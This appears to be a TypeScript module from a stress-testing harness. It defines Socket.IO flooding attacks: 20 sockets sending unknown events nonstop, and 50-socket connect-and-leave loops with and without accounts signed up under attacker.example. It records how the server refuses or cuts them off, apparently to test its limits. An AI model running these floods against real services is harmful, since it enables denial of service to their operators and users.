import { WebSocket } from 'ws'
import { type Attack, keepBusy, pause, type Target } from '../lib/attack.ts'
import { signUp } from '../lib/call.ts'

/** One connection that speaks just enough of Socket.IO; null when the server did not let it in. */
function connect(target: Target, cookie: string): Promise<WebSocket | null> {
  const address = `${target.origin.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`
  const socket = new WebSocket(address, {
    headers: cookie === '' ? {} : { cookie },
    localAddress: target.from,
    perMessageDeflate: false,
  })
  return new Promise((resolve) => {
    const refused = (what: string) => {
      target.count(what)
      socket.terminate()
      resolve(null)
    }
    const timer = setTimeout(() => refused('no answer'), 5000)
    socket.on('error', () => undefined)
    socket.on('unexpected-response', (_request, response) => refused(`${response.statusCode}`))
    socket.on('close', () => {
      clearTimeout(timer)
      resolve(null)
    })
    socket.on('message', (data) => {
      const text = data.toString()
      if (text.startsWith('44')) return refused('refused')
      if (text.startsWith('40')) {
        clearTimeout(timer)
        target.count('accepted')
        resolve(socket)
      } else if (text.startsWith('0')) socket.send('40')
      else if (text === '2') socket.send('3')
    })
  })
}

export const socketEvents: Attack = {
  name: 'socket-events',
  what: '20 sockets of one account send events that nobody knows, as fast as they are taken',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'events@attacker.example')
    return (signal) =>
      keepBusy(20, signal, async () => {
        const socket = await connect(target, cookie)
        if (!socket) return pause(100, signal)
        while (!signal.aborted && socket.readyState === WebSocket.OPEN) {
          for (let count = 0; count < 100; count++) socket.send(`42["unknown-${count}",{"text":"nothing"}]`)
          target.count('events', 100)
          while (socket.bufferedAmount > 65_536 && !signal.aborted && socket.readyState === WebSocket.OPEN)
            await pause(2, signal)
          await pause(1, signal)
        }
        if (!signal.aborted) target.count('cut off')
        socket.terminate()
      })
  },
}

const loop = (name: string, what: string, signedIn: boolean): Attack => ({
  name,
  what,
  async arm(target) {
    const cookie = signedIn ? await signUp(target.origin, target.from, `${name}@attacker.example`) : ''
    return (signal) => keepBusy(50, signal, async () => (await connect(target, cookie))?.terminate())
  },
})

export const socketLoop = loop('socket-loop', '50 sockets of one account that connect and leave, over and over', true)
export const strangerSockets = loop('socket-strangers', 'the same without an account', false)
